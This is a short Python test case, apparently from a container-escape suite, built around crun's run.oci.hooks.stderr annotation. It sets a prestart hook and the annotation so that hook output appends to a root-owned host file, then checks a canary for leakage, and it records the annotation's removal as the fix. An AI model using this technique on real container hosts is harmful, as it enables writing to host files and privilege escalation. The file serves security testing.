"""run.oci.hooks.stderr appends what a hook complains of to any file of the host, here root's own."""

from bypass import inert

SOURCE = "idea: crun(1)"
WAY = "create"
STOPPED = inert("the annotation is removed")
BARE = {"runc": "runc reads no run.oci annotation"}


def attack(t):
    t.write("/root/authorized", "")
    t.allow_network()
    t.hook("prestart", t.dockerd(), "libnetwork-setkey", "-c", "read line; echo %s >&2" % t.canary)
    t.annotation("run.oci.hooks.stderr", "/root/authorized")
    t.run("true")
    return t.leaked(t.read("/root/authorized"))
